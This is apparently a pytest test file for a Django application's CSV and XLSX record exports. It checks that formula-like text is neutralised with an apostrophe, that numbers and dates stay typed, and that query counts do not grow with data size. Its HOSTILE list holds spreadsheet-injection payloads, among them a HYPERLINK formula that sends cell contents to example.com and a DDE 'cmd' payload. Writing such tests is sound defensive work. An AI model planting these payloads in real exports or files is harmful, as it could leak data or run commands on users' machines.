"""Exports of a record list: no live formulas, typed numbers and dates, constant queries."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from cori.access import ADMINISTRATION, SECRETARIAT
from cori.demo.volume import scale_data_generate
from cori.exports import neutralise
from cori.records import REGISTRY
from outreach.models import Audience, CommunicationOpeningBalance, Mailing
from tests.staff import make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.com/?x="&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTabulador",
    "\rRetorno",
]


def _export(client, slug: str, fmt: str, acronym: str = "CORI", **query):
    response = client.get(reverse("record_export", args=[acronym, slug, fmt]), query)
    assert response.status_code == 200
    return response


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


@pytest.fixture
def hostile_mailings(seed_commission):
    audience = Audience.objects.filter(commission=seed_commission).first()
    return [
        Mailing.objects.create(audience=audience, date=datetime.date(2030, 1, 1), subject=text)
        for text in HOSTILE
    ]


def test_csv_cells_that_could_run_as_formulas_start_with_an_apostrophe(
    client, seed_commission, hostile_mailings
):
    client.force_login(make_user("exporta-csv", SECRETARIAT, commissions=[seed_commission]))
    rows = _csv_rows(_export(client, "correos", "csv", date_after="2030-01-01"))
    subjects = sorted(row[-1] for row in rows[1:])
    assert subjects == sorted(f"'{text}" for text in HOSTILE)
    dates = {row[3] for row in rows[1:]}
    assert dates == {"2030-01-01"}


@pytest.mark.database
def test_xlsx_has_no_formula_and_keeps_numbers_and_dates_typed(
    client, seed_commission, hostile_mailings
):
    client.force_login(make_user("exporta-xlsx", SECRETARIAT, commissions=[seed_commission]))
    rows = _xlsx_rows(_export(client, "correos", "xlsx", date_after="2030-01-01"))
    assert [cell.value for cell in rows[0]] == [
        "ID",
        "Audiencia",
        "Línea del PAT",
        "Fecha de envío",
        "Información enviada",
    ]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sorted(row[-1].value for row in rows[1:]) == sorted(f"'{text}" for text in HOSTILE)
    ids = {row[0].value for row in rows[1:]}
    assert ids == {mailing.pk for mailing in hostile_mailings}  # numbers, not text
    assert {row[3].value.date() for row in rows[1:]} == {datetime.date(2030, 1, 1)}
    assert rows[1][3].is_date


@pytest.mark.database
def test_counts_are_numbers_in_xlsx_and_plain_in_csv(client):
    # The SIVOPLE opening balances of the demo are the CVOE's, CORI's predecessor.
    client.force_login(make_user("exporta-num", ADMINISTRATION))
    balances = CommunicationOpeningBalance.objects.filter(commission__acronym="CVOE")
    expected = sorted(balance.count for balance in balances)
    assert expected
    header, *rows = _xlsx_rows(_export(client, "saldos-sivople", "xlsx", "CVOE"))
    position = [cell.value for cell in header].index("Comunicaciones")
    assert sorted(row[position].value for row in rows) == expected
    header, *rows = _csv_rows(_export(client, "saldos-sivople", "csv", "CVOE"))
    assert sorted(int(row[position]) for row in rows) == expected


def test_only_text_is_neutralised():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-") == "'-"
    assert neutralise("Texto - con guion") == "Texto - con guion"
    assert neutralise(-5) == -5
    assert neutralise(datetime.date(2022, 9, 1)) == datetime.date(2022, 9, 1)


def _queries(client, slug: str, fmt: str, acronym: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        _export(client, slug, fmt, acronym)
    return len(queries)


def test_every_export_takes_the_same_queries_at_two_sizes(client):
    small = scale_data_generate(scale=0.01, prefix="EXP")
    large = scale_data_generate(scale=0.1, prefix="EXG")
    assert large["comunicaciones SIVOPLE"] >= 9 * small["comunicaciones SIVOPLE"]
    client.force_login(make_user("exporta-escala", ADMINISTRATION))
    different = []
    for slug in REGISTRY:
        for fmt in ("csv", "xlsx"):
            counts = [_queries(client, slug, fmt, acronym) for acronym in ("EXP1", "EXG1")]
            if counts[0] != counts[1]:
                different.append((slug, fmt, counts))
    assert different == [], different
